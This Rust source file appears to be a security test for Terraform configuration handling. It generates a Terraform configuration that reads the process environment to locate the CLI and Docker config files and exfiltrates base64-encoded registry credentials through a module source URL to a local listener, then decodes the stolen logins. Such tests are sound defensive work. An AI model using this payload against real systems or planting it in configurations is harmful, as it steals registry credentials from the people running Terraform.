//! Attack A1: a configuration that finds the registry credential by static evaluation alone, and whoever it sends it to.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

/// Listens, and keeps what is sent.
pub(super) struct Thief {
    port: u16,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Thief {
    pub(super) fn start() -> Option<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").ok()?;
        let port = listener.local_addr().ok()?.port();
        let heard = Arc::new(Mutex::new(Vec::new()));
        let memory = Arc::clone(&heard);
        // Ends with the test program: nobody waits for it.
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
                let mut bytes = [0; 64 * 1024];
                let mut length = 0;
                while !bytes[..length].ends_with(b"\r\n\r\n") {
                    match stream.read(&mut bytes[length..]) {
                        Ok(more) if more > 0 => length += more,
                        _ => break,
                    }
                }
                let head = String::from_utf8_lossy(&bytes[..length]).into_owned();
                memory.lock().unwrap().extend(head.lines().next().map(str::to_owned));
                let _ = stream.write_all(b"HTTP/1.1 404 Not Found\r\nConnection: close\r\nContent-Length: 0\r\n\r\n");
            }
        });
        Some(Self { port, heard })
    }

    /// Environment → CLI configuration → Docker file → a module's address. No program, no provider.
    pub(super) fn configuration(&self) -> String {
        format!(
            "locals {{\n  cli    = regex(\"TF_CLI_CONFIG_FILE=([^\\\\x00]+)\", file(\"/proc/self/environ\"))[0]\n  docker = \
             regex(\"docker_style_config_files = \\\\[\\\"([^\\\"]+)\\\"\", file(local.cli))[0]\n  loot   = \
             urlencode(base64encode(file(local.docker)))\n}}\nmodule \"loot\" {{\n  source = \
             \"http://127.0.0.1:{}/loot.zip?loot=${{local.loot}}\"\n}}\n",
            self.port
        )
    }

    /// What was sent since the last time, decoded: the Docker file, and what it says of each registry.
    pub(super) fn loot(&self) -> Vec<String> {
        let lines = std::mem::take(&mut *self.heard.lock().unwrap());
        let mut loot = Vec::new();
        for line in lines {
            let Some(url) = line.split(' ').nth(1).and_then(|path| url::Url::parse(&format!("http://x{path}")).ok())
            else {
                continue;
            };
            let sent = url.query_pairs().find(|(name, _)| name == "loot").map(|(_, value)| value.into_owned());
            let text = sent.and_then(|sent| STANDARD.decode(sent).ok()).unwrap_or_default();
            let text = String::from_utf8_lossy(&text).into_owned();
            let file: serde_json::Value = serde_json::from_str(&text).unwrap_or_default();
            for entry in file["auths"].as_object().into_iter().flat_map(|auths| auths.values()) {
                let login = STANDARD.decode(entry["auth"].as_str().unwrap_or_default()).unwrap_or_default();
                loot.push(String::from_utf8_lossy(&login).into_owned());
            }
            loot.push(text);
        }
        loot
    }
}
